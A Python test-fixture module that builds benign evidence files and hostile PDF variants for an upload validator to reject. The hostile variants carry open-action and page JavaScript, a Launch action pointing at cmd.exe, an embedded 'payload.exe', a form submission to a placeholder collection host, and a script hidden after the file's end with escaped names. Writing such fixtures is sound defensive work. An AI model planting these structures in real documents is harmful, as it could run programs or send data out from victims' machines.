"""Real files of each evidence type, built by each type's own library, and the hostile ones
an upload must refuse."""

import io
import zipfile

from docx import Document
from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, TextStringObject


def pdf(change=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    if change:
        change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _open_action(writer, action: str, **entries) -> None:
    fields = {NameObject("/S"): NameObject(f"/{action}")}
    fields.update({NameObject(f"/{k}"): TextStringObject(v) for k, v in entries.items()})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(fields))


def pdf_open_action_javascript() -> bytes:
    return pdf(lambda w: _open_action(w, "JavaScript", JS="app.alert('opened')"))


def pdf_document_javascript() -> bytes:
    """JavaScript in the document's names tree, as pypdf's own add_open_action writes it."""
    return pdf(lambda w: w.add_open_action(JavaScript("this.print({bUI:true})")))


def pdf_page_javascript() -> bytes:
    """A page's additional action (/AA) that runs a script when the page opens."""

    def change(writer):
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")}
        )
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})

    return pdf(change)


def pdf_launch() -> bytes:
    return pdf(lambda w: _open_action(w, "Launch", F="C:\\Windows\\System32\\cmd.exe"))


def pdf_embedded_file() -> bytes:
    return pdf(lambda w: w.add_attachment("payload.exe", b"MZ\x90\x00"))


def pdf_submit_form() -> bytes:
    return pdf(lambda w: _open_action(w, "SubmitForm", F="https://example.invalid/collect"))


def pdf_with_a_hidden_script() -> bytes:
    """A script in an object after the end, outside the cross-reference table, its name
    written with #-escapes: a reader repairing the file could still find it."""
    return pdf() + b"\n99 0 obj<</S/J#61vaScript/JS(app.alert(1))>>endobj\n"


def image(kind: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (40, 20), "navy").save(buffer, kind)
    return buffer.getvalue()


def docx() -> bytes:
    buffer = io.BytesIO()
    document = Document()
    document.add_paragraph("Exercise Nightfall: debrief")
    document.save(buffer)
    return buffer.getvalue()


def xlsx() -> bytes:
    buffer = io.BytesIO()
    workbook = Workbook()
    workbook.active.append(["Course", "Officers trained"])
    workbook.save(buffer)
    return buffer.getvalue()


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "not an office file")
    return buffer.getvalue()


def rezip(data: bytes, parts: dict[str, bytes]) -> bytes:
    """The package `data` with `parts` replaced or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            if info.filename not in parts:
                target.writestr(info, source.read(info.filename))
        for name, content in parts.items():
            target.writestr(name, content)
    return out.getvalue()
